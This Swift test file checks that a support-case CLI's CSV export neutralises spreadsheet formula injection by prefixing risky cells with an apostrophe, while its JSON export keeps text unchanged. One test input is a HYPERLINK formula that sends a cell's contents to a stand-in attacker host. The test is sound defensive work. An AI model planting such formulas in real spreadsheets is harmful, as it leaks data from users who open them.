import Foundation
import Testing

/// A CSV export opened in a spreadsheet runs no formula a customer wrote:
/// cells starting with `=`, `+`, `-`, `@`, tab or CR get a `'` in front
/// (OWASP's advice); the JSON export keeps the text exact.
@Suite struct CSVFormulaTests {
    let casekit = CasekitBinary()

    /// Splits RFC 4180 text into rows of cells.
    func cells(_ csv: String) -> [[String]] {
        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false
        var characters = Array(csv.unicodeScalars)[...]
        while let next = characters.popFirst() {
            if quoted {
                if next == "\"" {
                    if characters.first == "\"" { cell.unicodeScalars.append(characters.removeFirst()) } else { quoted = false }
                } else {
                    cell.unicodeScalars.append(next)
                }
            } else if next == "\"" {
                quoted = true
            } else if next == "," {
                row.append(cell)
                cell = ""
            } else if next == "\r", characters.first == "\n" {
                characters.removeFirst()
                row.append(cell)
                rows.append(row)
                row = []
                cell = ""
            } else {
                cell.unicodeScalars.append(next)
            }
        }
        return rows
    }

    @Test func formulasAreNeutralisedInEveryTextColumn() throws {
        let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
        try casekit.ok("open", title, "--customer", "+1 555 0100", "--ref=-2+3", "--tag", "@SUM(1+1)", "--tag", "billing",
                       "--next", "=1+1 call the customer")
        try casekit.ok("escalate", "1", "--to", "\tTier 2")
        try casekit.ok("open", "\rCarriage return first", "--customer", "@admin", "--ref", "ZD-1")
        try casekit.ok("open", "Plain title", "--customer", "Acme - West", "--next", "Call back")
        let rows = cells(try casekit.ok("export", "--format", "csv"))
        #expect(rows.count == 4)
        let header = rows[0]
        func cell(_ row: Int, _ column: String) -> String { rows[row][header.firstIndex(of: column)!] }

        #expect(cell(1, "title") == "'" + title)
        #expect(cell(1, "customer") == "'+1 555 0100")
        #expect(cell(1, "ref") == "'-2+3")
        #expect(cell(1, "tags") == "'@SUM(1+1) billing")
        #expect(cell(1, "next action") == "'=1+1 call the customer")
        #expect(cell(1, "escalated to") == "'\tTier 2")
        #expect(cell(2, "title") == "'\rCarriage return first")
        #expect(cell(2, "customer") == "'@admin")
        // Text that only contains such a character, and casekit's own cells, stay as they are.
        #expect(cell(3, "customer") == "Acme - West")
        #expect(cell(3, "next action") == "Call back")
        #expect(cell(3, "created") == "2026-11-22T09:00:00-05:00")
        #expect(rows.dropFirst().allSatisfy { row in row.allSatisfy { !"=+-@\t\r".unicodeScalars.contains($0.unicodeScalars.first ?? "x") } })

        // JSON, the lossless format, keeps every character.
        let json = try casekit.json("export")
        let first = try #require((json["cases"] as? [[String: Any]])?.first)
        #expect(first["title"] as? String == title)
        #expect(first["customer"] as? String == "+1 555 0100")
    }
}
